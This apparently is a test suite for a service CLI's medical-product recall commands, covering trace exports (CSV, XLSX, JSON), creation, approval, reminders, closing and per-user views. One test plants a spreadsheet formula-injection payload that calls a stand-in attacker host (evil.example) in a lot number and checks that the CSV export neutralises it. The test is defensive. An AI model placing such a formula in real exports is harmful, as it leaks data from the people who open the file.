/**
 * The recall commands on a service's database: trace (text, --json, CSV and XLSX files), create by
 * an admin and by a vendor's user (pending until approve), show, list, remind and close.
 */
import test from 'ava';
import { readFileSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import type pg from 'pg';
import { startTestApp, type TestApp } from '../helpers/app.js';
import { svcBeside } from '../helpers/cli.js';
import { pgClient } from '../helpers/db.js';
import { MEDI, v1, vendorClient } from '../vendor-api/helpers.js';
import { order } from './fixtures.js';

const GLOVE = 'MEDI-GLV-NIT-M';
let app: TestApp;
let db: pg.Client;
const dir = mkdtempSync(join(tmpdir(), 'svc-recall-'));

test.before(async () => {
  app = await startTestApp();
  db = await pgClient(app.dbUrl);
  await order(db, 'SO-CLI-1', { lines: [[GLOVE, MEDI.name, 4]] });
  await order(db, 'SO-CLI-2', { customer: 'CUST-0002', lines: [[GLOVE, MEDI.name, 1]] });
  const medi = await vendorClient(app, MEDI);
  for (const so of ['SO-CLI-1', 'SO-CLI-2']) {
    const res = await v1(medi, 'sync.fulfillment', {
      data: { sales_order: so, tracking_number: `1Z-${so}`, notify: false, items: [{ sku: GLOVE, lot_number: 'L-CLI' }] },
    });
    if (res.status !== 200) throw new Error(res.text);
  }
});
test.after.always(async () => {
  await db?.end();
  await app?.stop();
});

const run = (argv: string[]) => svcBeside(app, argv);

test.serial('svc recall trace: a table, --json, and CSV / XLSX files', async (t) => {
  const text = await run(['recall', 'trace', '--item', GLOVE, '--lot', 'L-CLI']);
  t.is(text.code, 0, text.stderr);
  t.regex(text.stdout, /SO-CLI-1\s+CUST-0001/);
  t.regex(text.stdout, /2 shipped entries, 0 line\(s\) lot unknown; 2 customer\(s\), 5 unit\(s\)/);
  const json = await run(['recall', 'trace', '--item', GLOVE, '--lot', 'L-CLI', '--json']);
  t.is(json.code, 0, json.stderr);
  const doc = JSON.parse(json.stdout) as { entries: { sales_order: string; qty: number }[] };
  t.deepEqual(
    doc.entries.map((e) => [e.sales_order, e.qty]),
    [
      ['SO-CLI-1', 4],
      ['SO-CLI-2', 1],
    ],
  );
  const csv = join(dir, 'trace.csv');
  t.is((await run(['recall', 'trace', '--item', GLOVE, '--lot', 'L-CLI', '--format', 'csv', '--output', csv])).code, 0);
  const lines = readFileSync(csv, 'utf8').trim().split('\n');
  t.is(lines[0], 'sales_order,customer,customer_name,ship_to,item_code,lot_number,serial_numbers,expiry_date,qty,ship_date,source,tracking_number,carrier');
  t.is(lines.length, 3);
  t.true(lines[1].startsWith('SO-CLI-1,CUST-0001,'));
  const xlsx = join(dir, 'trace.xlsx');
  t.is((await run(['recall', 'trace', '--item', GLOVE, '--lot', 'L-CLI', '--output', xlsx])).code, 0);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(xlsx);
  t.is(wb.worksheets[0].rowCount, 3);
  t.is((await run(['recall', 'trace', '--lot', 'L-CLI'])).code, 2);
});

test.serial('svc recall create, approve, show, list, remind and close', async (t) => {
  const created = await run([
    'recall',
    'create',
    '--item',
    GLOVE,
    '--lot',
    'L-CLI',
    '--classification',
    'Class III',
    '--reason',
    'Labeling',
    '--instructions',
    'Relabel',
    '--json',
  ]);
  t.is(created.code, 0, created.stderr);
  const recall = JSON.parse(created.stdout) as { name: string; status: string; customers_notified: number };
  t.like(recall, { status: 'Open', customers_notified: 2 });
  const shown = await run(['recall', 'show', recall.name]);
  t.is(shown.code, 0, shown.stderr);
  t.regex(shown.stdout, /customers_acknowledged:\s+0 of 2/);
  t.regex(shown.stdout, /units_outstanding:\s+5/);
  const showJson = JSON.parse((await run(['recall', 'show', recall.name, '--json'])).stdout) as { lines: unknown[] };
  t.is(showJson.lines.length, 2);
  const list = JSON.parse((await run(['recall', 'list', '--json'])).stdout) as { name: string; units_outstanding: number }[];
  t.like(list[0], { name: recall.name, units_outstanding: 5 });
  t.regex((await run(['recall', 'list'])).stdout, new RegExp(`${recall.name}\\s+${GLOVE}\\s+Class III\\s+Open`));
  const reminded = JSON.parse((await run(['recall', 'remind', recall.name, '--json'])).stdout) as { reminded: number };
  t.is(reminded.reminded, 2);
  // lines outstanding: closing needs an admin's reason (the CLI's system actor is an administrator)
  const refused = await run(['recall', 'close', recall.name]);
  t.is(refused.code, 1);
  t.regex(refused.stderr, /not accounted for/);
  const closed = await run(['recall', 'close', recall.name, '--reason', 'Relabelled on site', '--json']);
  t.is(closed.code, 0, closed.stderr);
  t.like(JSON.parse(closed.stdout), { status: 'Closed', close_reason: 'Relabelled on site' });
  // a vendor's recall (as its user) waits for approval
  await db.query(`UPDATE users SET vendor = $1 WHERE email = 'vendor@demo.svc.local'`, [MEDI.name]);
  const pending = await run([
    'recall',
    'create',
    '--item',
    GLOVE,
    '--all-lots',
    '--classification',
    'Class I',
    '--reason',
    'Sterility',
    '--instructions',
    'Destroy',
    '--as',
    'vendor@demo.svc.local',
    '--json',
  ]);
  t.is(pending.code, 0, pending.stderr);
  const name = (JSON.parse(pending.stdout) as { name: string; status: string }).name;
  t.is((JSON.parse(pending.stdout) as { status: string }).status, 'Pending Approval');
  t.is((await run(['recall', 'approve', name, '--as', 'vendor@demo.svc.local'])).code, 1);
  const approved = await run(['recall', 'approve', name, '--json']);
  t.is(approved.code, 0, approved.stderr);
  t.like(JSON.parse(approved.stdout), { status: 'Open', customers_affected: 2 });
});

test.serial('svc recall trace --format csv: a vendor lot that looks like a formula is written inert (leading quote)', async (t) => {
  // the gauze: the glove is under an all-lots recall by now
  await order(db, 'SO-CLI-9', { lines: [['MEDI-GAUZE-4X4', MEDI.name, 1]] });
  const medi = await vendorClient(app, MEDI);
  const lot = '=HYPERLINK("http://evil.example/?"&A2,"L-7")';
  const res = await v1(medi, 'sync.fulfillment', {
    data: {
      sales_order: 'SO-CLI-9',
      tracking_number: '@1Z-CLI-9',
      notify: false,
      items: [{ sku: 'MEDI-GAUZE-4X4', lot_number: lot, serial_numbers: ['+S-1', '-S-2'] }],
    },
  });
  t.is(res.status, 200, res.text);
  const csv = join(dir, 'formula.csv');
  const out = await run(['recall', 'trace', '--order', 'SO-CLI-9', '--format', 'csv', '--output', csv]);
  t.is(out.code, 0, out.stderr);
  const row = readFileSync(csv, 'utf8').trim().split('\n')[1];
  t.true(row.includes(`"'=HYPERLINK(""http://evil.example/?""&A2,""L-7"")"`), row);
  t.true(row.includes(`'+S-1 -S-2`), row);
  t.true(row.includes(`,'@1Z-CLI-9,`), row);
});

test.serial("svc recall show --as a clinic's user: its own lines, without the staff's progress fields", async (t) => {
  const [first] = JSON.parse((await run(['recall', 'list', '--json'])).stdout) as { name: string }[];
  const shown = await run(['recall', 'show', first.name, '--as', 'clinic@demo.svc.local']);
  t.is(shown.code, 0, shown.stderr);
  t.regex(shown.stdout, /SO-CLI-1/);
  t.notRegex(shown.stdout, /SO-CLI-2|undefined|customers_acknowledged/);
});
